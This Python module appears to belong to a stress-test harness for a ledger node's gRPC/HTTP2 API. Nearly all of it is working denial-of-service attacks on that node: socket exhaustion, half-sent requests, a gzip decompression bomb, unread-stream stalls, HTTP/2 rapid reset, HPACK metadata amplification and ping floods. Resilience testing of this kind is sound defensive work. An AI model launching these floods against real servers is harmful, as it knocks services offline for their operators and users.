"""A caller without any key: connections, floods of cheap and of costly calls, answers that nobody reads, half requests."""

import collections
import contextlib
import os
import socket
import struct
import subprocess
import sys
import threading
import time
import zlib

from harness import attack
from http2 import (END_HEADERS, HEADERS, PING, PREFACE, RST_STREAM, SETTINGS, Closed, Connection, field, frame, grpc_message,
                   request_headers)

LEDGER = "/testamur.v1.LedgerService/"
VERIFY = "/testamur.v1.VerifyService/"
TRUST = "/testamur.v1.TrustService/"
REGISTRY = "/testamur.v1.RegistryService/"
LOG = "/testamur.v1.LogService/"
GOVERNANCE = "/testamur.v1.GovernanceService/"
IDS = 16384
MIB = 1 << 20


def hold_sockets(target, address, stop, count, first):
    """Opens as many as it is let, sends `first` on each, and keeps them, and opens what was closed again."""
    host, port = address.rsplit(":", 1)
    held = []
    while not stop():
        alive = []
        for each in held:
            try:
                if each.recv(65536, socket.MSG_DONTWAIT) == b"":
                    each.close()
                    continue
            except BlockingIOError:
                pass
            except OSError:
                each.close()
                continue
            alive.append(each)
        held = alive
        for _ in range(100):
            if len(held) >= count:
                break
            try:
                one = socket.create_connection((host, int(port)), 0.5, (target.source, 0))
                one.sendall(first)
                target.did()
                held.append(one)
            except OSError:
                break
        time.sleep(0.02)
    for each in held:
        each.close()


def flood(target, stop, path, bodies, streams=32, window=None):
    """The same kind of call again and again, so many at once over one connection, answers thrown away."""
    options = {} if window is None else {"window": window}
    connection = target.connect(**options)
    try:
        open_streams = []
        turn = 0
        while not stop():
            while len(open_streams) < streams:
                open_streams.append(connection.start(path, bodies(turn)))
                turn += 1
            connection.read(0.2)
            for stream in [each for each in open_streams if connection.ended(each)]:
                open_streams.remove(stream)
                connection.answers.pop(stream, None)
            for stream in open_streams:
                status, _ = connection.answers[stream]
                connection.answers[stream] = (status, b"")
    finally:
        connection.close()


@attack("idle_connections", "caller", names="api_connections", brief=True)
def idle_connections(target, stop):
    """1,300 connections that say hello and nothing more"""
    hold_sockets(target, target.api, stop, 1300, PREFACE + frame(SETTINGS, 0, 0))


@attack("silent_connections", "caller", names="api_connections")
def silent_connections(target, stop):
    """1,300 connections that say nothing at all"""
    hold_sockets(target, target.api, stop, 1300, b"")


@attack("connection_churn", "caller")
def connection_churn(target, stop):
    """connections to API, peers and metrics, opened and closed as fast as the machine can"""
    while not stop():
        for address in (target.api, target.metrics, target.peer):
            host, port = address.rsplit(":", 1)
            for _ in range(50):
                try:
                    socket.create_connection((host, int(port)), 0.2, (target.source, 0)).close()
                    target.did()
                except OSError:
                    pass


OFFERED_FROM = 100  # addresses
OFFERED_HELD = 2000


@attack("offered_connections", "caller", names="api_connections|metrics_connections", named_after=True)
def offered_connections(target, stop):
    """connections to API, peers and metrics from a hundred addresses, as many as the machine can; the newest are held"""
    net = target.source.rsplit(".", 1)[0]
    held = collections.deque()
    number = 0
    try:
        while not stop():
            for address, first in ((target.api, PREFACE + frame(SETTINGS, 0, 0)), (target.metrics, b"GET /m"), (target.peer, b"\x16")):
                host, port = address.rsplit(":", 1)
                source = f"{net}.{100 + number % OFFERED_FROM}"
                number += 1
                try:
                    one = socket.create_connection((host, int(port)), 0.2, (source, 0))
                    one.setblocking(False)
                    one.send(first)
                    target.did()
                    held.append(one)
                except OSError:
                    continue
            while len(held) > OFFERED_HELD:
                held.popleft().close()
            time.sleep(0.002)  # the attacker's processors are the nodes' here: what is meant are connections
    finally:
        for one in held:
            one.close()


@attack("await_one_id", "caller", brief=True)
def await_one_id(target, stop):
    """AwaitCommits with 16,384 times one id"""
    body = field(1, bytes(32)) * IDS
    flood(target, stop, LEDGER + "AwaitCommits", lambda turn: body, streams=16)


@attack("empty_entries", "caller", brief=True)
def empty_entries(target, stop):
    """requests of 4 MiB that hold two million empty ids, which take sixty times that once they are decoded"""
    body = field(1, b"") * (2 * MIB - 64)
    flood(target, stop, LEDGER + "AwaitCommits", lambda turn: body, streams=8)


@attack("packed_requests", "caller", brief=True)
def packed_requests(target, stop):
    """requests of 64 KiB that unpack to 64 MiB"""
    packer = zlib.compressobj(1, wbits=31)
    packed = b"".join(packer.compress(bytes(MIB)) for _ in range(64)) + packer.flush()
    message = struct.pack(">BI", 1, len(packed)) + packed
    while not stop():
        connection = target.connect()
        try:
            for _ in range(8):
                stream = connection.start(VERIFY + "CheckBulk", more=[("grpc-encoding", "gzip")])
                target.did()
                connection.send_body(stream, message)
            connection.read(0.2)
        finally:
            connection.close()


@attack("await_many_ids", "caller", names="awaited_ids", brief=True)
def await_many_ids(target, stop):
    """AwaitCommits with 16,384 different ids, on more streams than there is room for"""
    flood(target, stop, LEDGER + "AwaitCommits", lambda turn: b"".join(field(1, os.urandom(32)) for _ in range(IDS)), streams=12)


@attack("await_and_leave", "caller")
def await_and_leave(target, stop):
    """AwaitCommits with 16,384 ids, given up at once, again and again"""
    body = b"".join(field(1, os.urandom(32)) for _ in range(IDS))
    connection = target.connect()
    try:
        while not stop():
            stream = connection.start(LEDGER + "AwaitCommits", body)
            connection.read(0.01)
            connection.send(frame(RST_STREAM, 0, stream, struct.pack(">I", 8)))
            connection.answers.pop(stream, None)
    finally:
        connection.close()


@attack("bulk_unknown", "caller")
def bulk_unknown(target, stop):
    """CheckBulk of 16,384 commitments that nobody listed"""
    flood(target, stop, VERIFY + "CheckBulk", lambda turn: field(1, os.urandom(32 * IDS)), streams=8)


@attack("bulk_and_hang_up", "caller")
def bulk_and_hang_up(target, stop):
    """CheckBulk whose caller is gone before the answer"""
    body = field(1, os.urandom(32 * IDS))
    while not stop():
        connection = target.connect()
        for _ in range(4):
            connection.start(VERIFY + "CheckBulk", body)
        connection.close()


@attack("check_stream", "caller")
def check_stream(target, stop):
    """CheckStream, 4,096 commitments a message, one after the other"""
    connection = target.connect()
    message = grpc_message(field(1, os.urandom(32 * 4096)))
    try:
        streams = [connection.start(VERIFY + "CheckStream") for _ in range(8)]
        while not stop():
            for stream in streams:
                connection.send_body(stream, message, end=False)
            connection.read(0.05)
    finally:
        connection.close()


def hold(target, stop, most, begin, pause, **how):
    """Keeps so many connections, `begin(connection, how many there are with it)` on each, and takes what comes without a wait."""
    connections = []
    try:
        while not stop():
            if len(connections) < most:
                one = target.connect(**how)
                connections.append(one)
                begin(one, len(connections))
            for one in list(connections):
                try:
                    one.read(0)
                except Closed:
                    connections.remove(one)
            time.sleep(pause)
    finally:
        for one in connections:
            one.close()


@attack("unread_streams", "caller", names="streams|unread_answers|stalled", brief=True)
def unread_streams(target, stop):
    """StreamBlocks on 400 streams that nobody reads"""
    body = field(2, 1)

    def begin(one, _):
        for _ in range(20):
            one.start(LEDGER + "StreamBlocks", body)

    hold(target, stop, 20, begin, pause=0.1, window=0)


@attack("unread_answers", "caller", names="unread_answers|stalled|open_calls|queued_calls|api_streams")
def unread_answers(target, stop):
    """the largest answers of the log, never taken"""
    body = field(2, 1000) + field(3, 1)

    def begin(one, _):
        for _ in range(100):
            one.start(LOG + "GetEntries", body)

    hold(target, stop, 16, begin, pause=0.1, window=0)


@attack("slow_reader", "caller")
def slow_reader(target, stop):
    """the log's entries, taken one byte at a time"""
    connection = target.connect(window=1)
    try:
        streams = [connection.start(LOG + "GetEntries", field(2, 1000) + field(3, 1)) for _ in range(64)]
        while not stop():
            for stream in streams:
                connection.send(frame(8, 0, stream, struct.pack(">I", 1)))
            connection.read(0.1)
    finally:
        connection.close()


@attack("list_scan", "caller", brief=True)
def list_scan(target, stop):
    """every list of the registry, from the beginning, without an end"""
    lists = [(REGISTRY + "ListInstitutions", field(1, 1000)), (REGISTRY + "ListAchievements", field(2, 1000)),
             (REGISTRY + "ListSuccessions", b""), (GOVERNANCE + "ListReady", b""), (GOVERNANCE + "ListProposals", field(2, 1000)),
             (GOVERNANCE + "ListEvidence", b"")]
    connection = target.connect()
    try:
        open_streams = []
        turn = 0
        while not stop():
            while len(open_streams) < 48:
                open_streams.append(connection.start(*lists[turn % len(lists)]))
                turn += 1
            connection.read(0.2)
            open_streams = [each for each in open_streams if not connection.ended(each)]
            connection.answers = {each: connection.answers[each] for each in open_streams}
    finally:
        connection.close()


@attack("entries_scan", "caller")
def entries_scan(target, stop):
    """a thousand entries of the log with their transactions, again and again"""
    flood(target, stop, LOG + "GetEntries", lambda turn: field(1, turn % 500) + field(2, 1000) + field(3, 1), streams=32)


@attack("decide_fresh_times", "caller")
def decide_fresh_times(target, stop):
    """decisions at times that nobody has asked about before"""
    issuer = institution(target)
    flood(target, stop, TRUST + "Decide", lambda turn: field(1, issuer) + field(6, 1 + turn), streams=64)


@attack("claims_at_fresh_times", "caller")
def claims_at_fresh_times(target, stop):
    """verdicts with a date of award that nobody has claimed before"""
    issuer = institution(target)
    flood(target, stop, VERIFY + "CheckReference", lambda turn: field(2, issuer) + field(3, 1 + turn % 50) + field(4, field(5, 1 + turn)),
          streams=64)


@attack("paths", "caller")
def paths(target, stop):
    """explanations of a decision with all its remedies"""
    issuer = institution(target)
    flood(target, stop, TRUST + "Paths", lambda turn: field(1, field(1, issuer)), streams=64)


@attack("graph", "caller")
def graph(target, stop):
    """the graph three steps around an institution"""
    flood(target, stop, TRUST + "Graph", lambda turn: field(2, 3) + field(4, 10000), streams=64)


@attack("status_flood", "caller")
def status_flood(target, stop):
    """the node's status, which only its strand knows, as often as possible"""
    flood(target, stop, LEDGER + "GetStatus", lambda turn: b"", streams=128)


@attack("unknown_names", "caller")
def unknown_names(target, stop):
    """keys and institutions that no ledger knows, each once"""
    flood(target, stop, REGISTRY + "GetKey", lambda turn: field(1, os.urandom(16)), streams=128)


@attack("unknown_transactions", "caller")
def unknown_transactions(target, stop):
    """transactions that nobody has sent"""
    flood(target, stop, LEDGER + "GetTransaction", lambda turn: field(1, os.urandom(32)), streams=128)


@attack("garbage_transactions", "caller")
def garbage_transactions(target, stop):
    """half a megabyte of noise as a transaction"""
    flood(target, stop, LEDGER + "Submit", lambda turn: field(1, os.urandom(600_000)), streams=8)


@attack("half_requests", "caller", names="api_streams", brief=True)
def half_requests(target, stop):
    """calls that begin and never send their request"""

    def begin(one, _):
        for _ in range(250):
            one.start(VERIFY + "CheckHash")

    hold(target, stop, 64, begin, pause=0.02)


@attack("large_half_requests", "caller")
def large_half_requests(target, stop):
    """requests of four megabytes that stop before their last byte"""
    promised = struct.pack(">BI", 0, 4_000_000) + bytes(3_900_000)

    def begin(one, _):
        for _ in range(4):
            one.send_body(one.start(LEDGER + "Submit"), promised, end=False, timeout=1)

    hold(target, stop, 16, begin, pause=0.05)


@attack("rapid_reset", "caller", names="api_streams")
def rapid_reset(target, stop):
    """calls that are cancelled in the same breath, by the ten thousand"""
    connection = target.connect()
    headers = request_headers(VERIFY + "CheckBulk")
    message = grpc_message(field(1, bytes(32 * 64)))
    try:
        while not stop():
            batch = b""
            for _ in range(64):
                stream = connection.next_stream
                connection.next_stream += 2
                batch += frame(HEADERS, END_HEADERS, stream, headers) + frame(0, 1, stream, message)
                batch += frame(RST_STREAM, 0, stream, struct.pack(">I", 8))
            connection.send(batch)
            connection.read(0)
    finally:
        connection.close()


def many_entries(first, count):
    """Headers of a request with so many entries of metadata, a byte each once the connection's table holds it (RFC 7541)."""
    held = b"\xbe"  # the newest of the table
    return request_headers(VERIFY + "CheckBulk") + (b"\x40\x01a\x00" if first else held) + held * (count - 1)


# As many as fit into what gRPC takes of metadata, and into twice that.
ENTRIES = (230, 440)


# One more program that computes, as any machine has that does other work; it ends by itself where nobody ends it.
BURN = "import time\nend = time.monotonic() + 300\nwhile time.monotonic() < end: pass"


def reset_again_and_again(target, stop, entries):
    while not stop():
        connection = target.connect(timeout=1)
        try:
            first = True
            while not stop():
                batch = b""
                for _ in range(20):
                    stream = connection.next_stream
                    connection.next_stream += 2
                    batch += frame(HEADERS, END_HEADERS, stream, many_entries(first, entries))
                    batch += frame(RST_STREAM, 0, stream, struct.pack(">I", 8))
                    first = False
                connection.send(batch)
                connection.read(0)
        except (OSError, Closed):
            time.sleep(0.01)
        finally:
            connection.close()


@attack("reset_with_metadata", "caller", names="api_streams", at_once=3, brief=True)
def reset_with_metadata(target, stop):
    """calls with hundreds of entries of metadata, a byte each, cancelled in the same breath on four connections, on a busy machine"""
    stopped = threading.Event()
    busy = [subprocess.Popen((sys.executable, "-c", BURN)) for _ in range(2)]
    threads = [threading.Thread(target=reset_again_and_again, args=(target, stopped.is_set, ENTRIES[i % 2])) for i in range(4)]
    for each in threads:
        each.start()
    try:
        while not stop():
            time.sleep(0.05)
    finally:
        stopped.set()
        for each in busy:
            each.kill()
            each.wait()
        for each in threads:
            each.join()


@attack("half_requests_with_metadata", "caller", names="api_streams", at_once=3, brief=True)
def half_requests_with_metadata(target, stop):
    """calls with hundreds of entries of metadata that never send their request"""

    def begin(one, held):
        for i in range(100):
            stream = one.next_stream
            one.next_stream += 2
            one.send(frame(HEADERS, END_HEADERS, stream, many_entries(i == 0, ENTRIES[held % 2])))

    hold(target, stop, 16, begin, pause=0.02, timeout=1)


@attack("long_names", "caller", at_once=3, brief=True)
def long_names(target, stop):
    """institutions asked for by a domain of 3.9 MB, which the error repeats"""
    body = field(3, "a" * 3_900_000)
    flood(target, stop, REGISTRY + "GetInstitution", lambda turn: body, streams=4)


@attack("ping_flood", "caller")
def ping_flood(target, stop):
    """pings and settings, ten thousand a second"""
    connection = target.connect()
    batch = frame(PING, 0, 0, bytes(8)) * 200 + frame(SETTINGS, 0, 0) * 20
    try:
        while not stop():
            connection.send(batch)
            connection.read(0)
            time.sleep(0.01)
    finally:
        connection.close()


@attack("unread_pings", "caller", brief=True)
def unread_pings(target, stop):
    """40 connections that send 3 MB of pings each and take no answer (CVE-2019-9512)"""
    batch = frame(PING, 0, 0, bytes(8)) * 2000
    connections = []
    try:
        while not stop():
            if len(connections) == 40:
                time.sleep(0.2)
                continue
            one = target.connect()
            connections.append(one)
            one.socket.settimeout(0.5)
            sent = 0
            with contextlib.suppress(OSError):  # the node takes no more
                while sent < 3_000_000 and not stop():
                    sent += one.socket.send(batch)
            target.did()
    finally:
        for one in connections:
            one.close()


@attack("large_headers", "caller")
def large_headers(target, stop):
    """calls with more metadata than a call may have"""
    connection = target.connect()
    more = [(f"x-{i}", "y" * 1000) for i in range(15)]
    try:
        while not stop():
            for _ in range(32):
                connection.start(VERIFY + "CheckHash", field(1, bytes(32)), more)
            connection.read(0.05)
    finally:
        connection.close()


@attack("metrics_connections", "caller", names="metrics_connections")
def metrics_connections(target, stop):
    """1,300 connections to the metrics, each with half a request"""
    hold_sockets(target, target.metrics, stop, 1300, b"GET /metr")


@attack("metrics_flood", "caller")
def metrics_flood(target, stop):
    """the metrics, as often as possible"""
    host, port = target.metrics.rsplit(":", 1)
    while not stop():
        with socket.create_connection((host, int(port)), 2, (target.source, 0)) as one:
            one.sendall(b"GET /metrics HTTP/1.1\r\nHost: x\r\n\r\n")
            target.did()
            while one.recv(65536):
                pass


def institution(target):
    """The bytes of the first institution's id: asked of the node, as a stranger would."""
    connection = Connection(target.api, source=target.source)
    try:
        status, answer = connection.call(LEDGER + "GetStatus")
        return name_in(answer) if status == 0 else bytes(16)
    finally:
        connection.close()


def name_in(status):
    """`institution.id` of a GetStatusResponse (field 3, then field 1)."""
    message = member(status, 3)
    return member(message, 1) or bytes(16)


def member(message, wanted):
    at = 0
    while at < len(message):
        key, at = read_varint(message, at)
        kind = key & 7
        if kind == 0:
            _, at = read_varint(message, at)
            continue
        size, at = (read_varint(message, at) if kind == 2 else ((8, at) if kind == 1 else (4, at)))
        if key >> 3 == wanted:
            return message[at:at + size]
        at += size
    return b""


def read_varint(data, at):
    value = shift = 0
    while True:
        byte = data[at]
        at += 1
        value |= (byte & 127) << shift
        shift += 7
        if byte < 128:
            return value, at
